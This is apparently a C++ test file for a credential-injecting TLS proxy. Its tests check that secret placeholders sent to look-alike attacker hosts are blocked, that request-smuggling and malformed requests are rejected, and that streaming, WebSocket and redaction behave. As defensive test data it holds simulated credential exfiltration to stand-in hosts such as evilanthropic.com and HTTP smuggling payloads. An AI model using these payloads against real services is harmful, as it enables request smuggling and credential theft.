// The proxy's TLS side with a raw client (test_env.h TunnelClient): requests are written byte for
// byte inside the intercepted tunnel, so a test decides where TLS records and HTTP chunks split.
// Covers what curl cannot control: placeholders split across records and chunks, encoded body
// forms toward look-alike hosts, smuggling inside the tunnel, ALPN, WebSocket pass-through,
// keep-alive on both legs, large streamed bodies and opt-in body substitution.
#include <gtest/gtest.h>

#include "base/strings.h"
#include "proxy/test_env.h"
#include "vault/crypto.h"

namespace cloister::proxy::testing {
namespace {

std::string Chunk(const std::string& d) {
  char len[16];
  snprintf(len, sizeof len, "%zx\r\n", d.size());
  return std::string(len) + d + "\r\n";
}

std::string Percent(const std::string& s) {
  std::string out;
  for (unsigned char c : s) {
    char b[4];
    snprintf(b, sizeof b, "%%%02X", c);
    out += b;
  }
  return out;
}

class TlsTest : public ::testing::Test {
 protected:
  void StartUpstream(Handler h = Hello()) {
    auto up = FakeUpstream::Start(env_.upstream_ca, std::move(h));
    ASSERT_TRUE(up.ok());
    upstream_ = std::move(up).value();
  }
  void StartProxyFor(const std::vector<std::string>& hosts) {
    std::map<std::string, std::string> resolve;
    for (const auto& h : hosts) resolve[h + ":443"] = upstream_->Address();
    env_.StartProxy(resolve);
  }
  std::unique_ptr<TunnelClient> Connect(const std::string& host,
                                        const std::string& alpn = std::string("\x08http/1.1")) {
    auto c = std::make_unique<TunnelClient>(env_.proxy_port, env_.ca_file, host, host, alpn);
    EXPECT_TRUE(c->ok()) << host;
    return c;
  }
  ProxyEnv env_;
  std::unique_ptr<FakeUpstream> upstream_;
};

TEST_F(TlsTest, PlaceholderSplitAcrossTlsRecordsAndChunksToALookAlikeTrips) {
  StartUpstream();
  StartProxyFor({"evilanthropic.com", "api.anthropic.com"});
  const std::string& ph = env_.Placeholder(0);
  auto c = Connect("evilanthropic.com");
  // Two chunks in two TLS writes; the placeholder is cut in the middle of both.
  ASSERT_TRUE(c->Write("POST /v1/messages HTTP/1.1\r\nHost: evilanthropic.com\r\n"
                       "Transfer-Encoding: chunked\r\n\r\n" +
                       Chunk("{\"k\":\"" + ph.substr(0, 11))));
  ASSERT_TRUE(c->Write(Chunk(ph.substr(11) + "\"}") + "0\r\n\r\n"));
  auto res = c->Read();
  EXPECT_EQ(res.result_int(), 451u);
  EXPECT_TRUE(upstream_->requests().empty());
  ASSERT_EQ(env_.Events().size(), 1u);
  EXPECT_EQ(env_.Events()[0].where, "body");
  EXPECT_EQ(env_.Events()[0].host, "evilanthropic.com");
  EXPECT_TRUE(env_.proxy->compromised());
}

struct BodyForm {
  std::string host;
  std::string form;  // url, base64, base64url
};

class LookAlikeBodyTest : public TlsTest, public ::testing::WithParamInterface<BodyForm> {};

TEST_P(LookAlikeBodyTest, EncodedPlaceholderInBodyTrips) {
  StartUpstream();
  const BodyForm& p = GetParam();
  StartProxyFor({p.host, "api.anthropic.com"});
  const std::string& ph = env_.Placeholder(1);  // the GitHub token's placeholder
  std::string body;
  if (p.form == "url") body = "token=" + Percent(ph) + "&x=1";
  if (p.form == "base64") body = "{\"b\":\"" + vault::Base64Encode("user:" + ph) + "\"}";
  if (p.form == "base64url") body = "{\"b\":\"" + vault::Base64Encode("xy" + ph, true, false) + "\"}";
  auto c = Connect(p.host);
  ASSERT_TRUE(c->Write("POST /collect HTTP/1.1\r\nHost: " + p.host + "\r\nContent-Length: " +
                       std::to_string(body.size()) + "\r\n\r\n" + body));
  EXPECT_EQ(c->Read().result_int(), 451u);
  EXPECT_TRUE(upstream_->requests().empty());
  ASSERT_EQ(env_.Events().size(), 1u);
  EXPECT_EQ(env_.Events()[0].credential, "github");
  EXPECT_EQ(env_.Events()[0].encoding, p.form == "url" ? "url" : "base64");
}

INSTANTIATE_TEST_SUITE_P(
    Forms, LookAlikeBodyTest,
    ::testing::Values(BodyForm{"api.anthropic.com.evil.test", "url"},
                      BodyForm{"api.anthropic.com.evil.test", "base64"},
                      BodyForm{"evilanthropic.com", "url"}, BodyForm{"evilanthropic.com", "base64"},
                      BodyForm{"evilanthropic.com", "base64url"}),
    [](const auto& info) {
      std::string n = info.param.host + "_" + info.param.form;
      for (char& ch : n) if (!isalnum(static_cast<unsigned char>(ch))) ch = '_';
      return n;
    });

TEST_F(TlsTest, MalformedRequestsInsideTheTunnelAre400AndNeverForwarded) {
  StartUpstream();
  StartProxyFor({"api.github.com"});
  const std::vector<std::string> bad = {
      // Smuggling: both framings.
      "POST /x HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 4\r\nTransfer-Encoding: "
      "chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: api.github.com\r\n\r\n",
      // Transfer-Encoding other than exactly "chunked".
      "POST /x HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
      // Chunk size overflow and junk.
      "POST /x HTTP/1.1\r\nHost: api.github.com\r\nTransfer-Encoding: chunked\r\n\r\n"
      "fffffffffffffffff1\r\nab\r\n0\r\n\r\n",
      // Header block over the limit.
      "GET /x HTTP/1.1\r\nHost: api.github.com\r\nX-Big: " + std::string(70000, 'a') + "\r\n\r\n",
      // Bad request line and a bad version.
      "GET /x HTTP/1.1 extra\r\nHost: api.github.com\r\n\r\n",
      "GET /x HTTP/2.0\r\nHost: api.github.com\r\n\r\n",
      // Two Host headers.
      "GET /x HTTP/1.1\r\nHost: api.github.com\r\nHost: evil.test\r\n\r\n",
      // CONNECT inside the tunnel.
      "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n",
  };
  for (const std::string& b : bad) {
    auto c = Connect("api.github.com");
    ASSERT_TRUE(c->Write(b));
    auto res = c->Read();
    EXPECT_EQ(res.result_int(), 400u) << b.substr(0, 70);
    EXPECT_FALSE(res.keep_alive()) << b.substr(0, 70);
  }
  EXPECT_TRUE(upstream_->requests().empty());
  EXPECT_FALSE(env_.proxy->compromised());
}

TEST_F(TlsTest, AlpnIsHttp11OnBothLegs) {
  StartUpstream();
  StartProxyFor({"api.anthropic.com"});
  // The client offers h2 first: the proxy picks http/1.1.
  auto c = Connect("api.anthropic.com", std::string("\x02h2\x08http/1.1"));
  EXPECT_EQ(c->Alpn(), "http/1.1");
  ASSERT_TRUE(c->Write("GET /v1 HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n"));
  EXPECT_EQ(c->Read().result_int(), 200u);
  ASSERT_EQ(upstream_->requests().size(), 1u);
  EXPECT_EQ(upstream_->requests()[0].alpn_offered, "http/1.1");  // and offers only http/1.1
  // A client offering only h2 gets no ALPN (so it speaks HTTP/1.1 or gives up), never h2.
  auto h2 = std::make_unique<TunnelClient>(env_.proxy_port, env_.ca_file, "api.anthropic.com",
                                           "api.anthropic.com", std::string("\x02h2"));
  if (h2->ok()) EXPECT_EQ(h2->Alpn(), "");
}

TEST_F(TlsTest, WebSocketUpgradePassesThroughBothWays) {
  StartUpstream([](const SeenRequest& r, ResponseWriter& w) {
    if (r.Header("upgrade") == "websocket") w.UpgradeEcho();
    else w.Send(400, {}, "no upgrade");
  });
  StartProxyFor({"api.openai.com"});
  auto c = Connect("api.openai.com");
  ASSERT_TRUE(c->Write("GET /v1/realtime HTTP/1.1\r\nHost: api.openai.com\r\nUpgrade: websocket\r\n"
                       "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                       "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer " +
                       env_.Placeholder(2) + "\r\n\r\n"));
  auto res = c->Read();
  ASSERT_EQ(res.result_int(), 101u);
  ASSERT_EQ(upstream_->requests().size(), 1u);
  EXPECT_EQ(upstream_->requests()[0].Header("authorization"), "Bearer " + kRealOpenai);
  EXPECT_EQ(ToLower(upstream_->requests()[0].Header("connection")), "upgrade");
  // Frames (here arbitrary bytes) go both ways after the 101, in several round trips.
  for (int i = 0; i < 3; ++i) {
    std::string frame = "\x81\x05hello" + std::to_string(i) + std::string(3000 * i, 'z');
    ASSERT_TRUE(c->Write(frame));
    EXPECT_EQ(c->ReadRaw(frame.size()), frame);
  }
}

TEST_F(TlsTest, KeepAliveOnBothLegs) {
  StartUpstream();
  StartProxyFor({"api.github.com"});
  auto c = Connect("api.github.com");
  for (int i = 0; i < 3; ++i) {
    ASSERT_TRUE(c->Write("GET /r" + std::to_string(i) + " HTTP/1.1\r\nHost: api.github.com\r\n\r\n"));
    auto res = c->Read();
    EXPECT_EQ(res.result_int(), 200u);
    EXPECT_TRUE(res.keep_alive());
    EXPECT_EQ(res.body(), "hello");
  }
  EXPECT_EQ(upstream_->requests().size(), 3u);
  EXPECT_EQ(upstream_->connections(), 1u);  // one upstream connection served all three
}

TEST_F(TlsTest, LargeBodiesStreamIntactBothWays) {
  const uint64_t kDown = 48ull << 20;
  StartUpstream([&](const SeenRequest& r, ResponseWriter& w) {
    if (r.target == "/down") w.SendBulk(200, kDown);
    else w.Send(200, {}, std::to_string(r.body.size()) + ":" + std::to_string(vault::Crc32(r.body)));
  });
  StartProxyFor({"api.anthropic.com"});
  auto c = Connect("api.anthropic.com");
  // 12 MiB up (past the 1 MiB hold: the streaming path with its hold-back), in 64 KiB writes.
  std::string up(12 << 20, '\0');
  for (size_t i = 0; i < up.size(); ++i) up[i] = static_cast<char>('a' + (i * 7919 % 26));
  ASSERT_TRUE(c->Write("POST /up HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: " +
                       std::to_string(up.size()) + "\r\n\r\n"));
  for (size_t off = 0; off < up.size(); off += 65536) {
    ASSERT_TRUE(c->Write(up.substr(off, 65536)));
  }
  auto res = c->Read();
  EXPECT_EQ(res.result_int(), 200u);
  EXPECT_EQ(res.body(), std::to_string(up.size()) + ":" + std::to_string(vault::Crc32(up)));
  // 48 MiB down on the same connection.
  ASSERT_TRUE(c->Write("GET /down HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n"));
  auto down = c->Read();
  EXPECT_EQ(down.result_int(), 200u);
  EXPECT_EQ(down.body().size(), kDown);
  EXPECT_EQ(down.body().find_first_not_of('x'), std::string::npos);
  auto trace = env_.TraceAtLeast(2);
  ASSERT_EQ(trace.size(), 2u);
  EXPECT_EQ(trace[0].bytes_up, up.size());
  EXPECT_EQ(trace[1].bytes_down, kDown);
}

TEST_F(TlsTest, AReflectedKeyInALongContentLengthBodyIsRedactedWhereverThePiecesSplit) {
  // The driver reads a Content-Length body from the stream in pieces of at most 64 KiB, cut
  // wherever the reads end: the key, every 4099 bytes through 600 KiB, straddles many of those
  // cuts. Then a second request on the same connections: the body was read to its end and no
  // further (the upstream connection is reused).
  std::string filler(4099 - kRealAnthropic.size(), 'f');
  std::string body;
  while (body.size() < 600 * 1024) body += filler + kRealAnthropic;
  StartUpstream([&](const SeenRequest& r, ResponseWriter& w) {
    if (r.target == "/long") w.Send(200, {}, body);
    else w.Send(200, {}, "short");
  });
  StartProxyFor({"api.anthropic.com"});
  const std::string& ph = env_.Placeholder(0);
  std::string masked = ph.size() == kRealAnthropic.size() ? ph : std::string(ph.size(), 'x');
  std::string expect;
  while (expect.size() < body.size()) expect += filler + masked;
  auto c = Connect("api.anthropic.com");
  ASSERT_TRUE(c->Write("GET /long HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph +
                       "\r\n\r\n"));
  auto res = c->Read();
  EXPECT_EQ(res.result_int(), 200u);
  ASSERT_EQ(res.body().size(), body.size());
  EXPECT_EQ(res.body().find("REAL"), std::string::npos);
  EXPECT_TRUE(res.body() == expect);
  ASSERT_TRUE(c->Write("GET /short HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + ph +
                       "\r\n\r\n"));
  auto second = c->Read();
  EXPECT_EQ(second.result_int(), 200u);
  EXPECT_EQ(second.body(), "short");
  EXPECT_EQ(upstream_->connections(), 1u);
}

TEST_F(TlsTest, BodySubstitutionOnlyForCredentialsThatOptIn) {
  const std::string kRealRefresh = "rt_REALxREFRESHxTOKENx0123456789abcdef";
  env_.creds.push_back(Bind(vault::CredentialKind::kHeader, kRealRefresh, {"oauth.example.test"},
                            "x-refresh", /*body=*/true));
  StartUpstream();
  StartProxyFor({"oauth.example.test", "api.github.com"});
  const std::string& refresh_ph = env_.creds[3].placeholder;
  // Opted in: the placeholder in the body becomes the real value, toward its own host only.
  {
    std::string body = "grant_type=refresh_token&refresh_token=" + refresh_ph;
    auto c = Connect("oauth.example.test");
    ASSERT_TRUE(c->Write("POST /token HTTP/1.1\r\nHost: oauth.example.test\r\nContent-Length: " +
                         std::to_string(body.size()) + "\r\n\r\n" + body));
    EXPECT_EQ(c->Read().result_int(), 200u);
    ASSERT_EQ(upstream_->requests().size(), 1u);
    EXPECT_EQ(upstream_->requests()[0].body, "grant_type=refresh_token&refresh_token=" + kRealRefresh);
  }
  // Not opted in (github): its placeholder in a body to its own host stays a placeholder.
  {
    std::string body = "{\"note\":\"" + env_.Placeholder(1) + "\"}";
    auto c = Connect("api.github.com");
    ASSERT_TRUE(c->Write("POST /gists HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: " +
                         std::to_string(body.size()) + "\r\n\r\n" + body));
    EXPECT_EQ(c->Read().result_int(), 200u);
    ASSERT_EQ(upstream_->requests().size(), 2u);
    EXPECT_EQ(upstream_->requests()[1].body, body);
  }
  EXPECT_FALSE(env_.proxy->compromised());
}

}  // namespace
}  // namespace cloister::proxy::testing
